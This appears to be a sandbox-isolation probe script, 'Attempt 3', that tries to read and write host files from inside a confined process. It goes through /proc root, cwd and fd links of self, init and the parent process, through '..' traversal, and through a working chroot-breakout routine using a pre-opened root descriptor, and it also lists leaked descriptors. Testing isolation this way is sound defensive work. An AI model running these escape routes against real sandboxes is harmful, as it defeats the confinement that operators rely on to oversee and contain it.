"""Attempt 3: files of the host by every way that leads out of a process: `reach.py <path> <content>`."""

import itertools
import os
import stat
import sys

from kernel import attempt, tell

path, content = sys.argv[1], sys.argv[2].encode()
UPWARDS = ["", *("/" + "/".join([".."] * depth) for depth in (1, 2, 4, 8, 16))]


def reads(candidate):
    """Whether a regular file has it; others may have a reader wait."""
    try:
        opened = os.open(candidate, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        return stat.S_ISREG(os.fstat(opened).st_mode) and content in os.read(opened, 4096)
    except OSError:
        return False
    finally:
        os.close(opened)


def ways():
    for process in ("self", "1", str(os.getppid()), "thread-self"):
        for link in ("root", "cwd", "exe"):
            yield f"/proc/{process}/{link}"
        descriptors = range(64)
        yield from (f"/proc/{process}/fd/{number}" for number in descriptors)
    yield from (f"/dev/fd/{number}" for number in range(64))
    yield from ("/proc/1/map_files", "/proc/1/task/1/root", "/run/atoll/agent", "/proc/sys", "/sys", "/dev/shm", "/dev/pts")


def chrooted():
    """The way out of a chroot, for one who may chroot: a directory that was open before."""
    child = os.fork()
    if child:
        return os.waitpid(child, 0)[1] != 0
    found = False
    try:
        outside = os.open("/", os.O_RDONLY)
        os.makedirs("/tmp/escape-root", exist_ok=True)
        os.chroot("/tmp/escape-root")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        found = reads(path)
    except OSError:
        pass
    os._exit(1 if found else 0)


tell(
    {
        "read": [way + up for way, up in itertools.product(ways(), UPWARDS) if reads(way + up + path)] + [way for way in ways() if reads(way)],
        "by chroot": chrooted(),
        "descriptors": [os.readlink(f"/proc/self/fd/{number}") for number in os.listdir("/proc/self/fd") if int(number) > 2 and os.path.lexists(f"/proc/self/fd/{number}")],
        "written": [way for way in ways() if attempt(lambda: os.close(os.open(way + path, os.O_WRONLY | os.O_NONBLOCK))) == "ok"],
    }
)
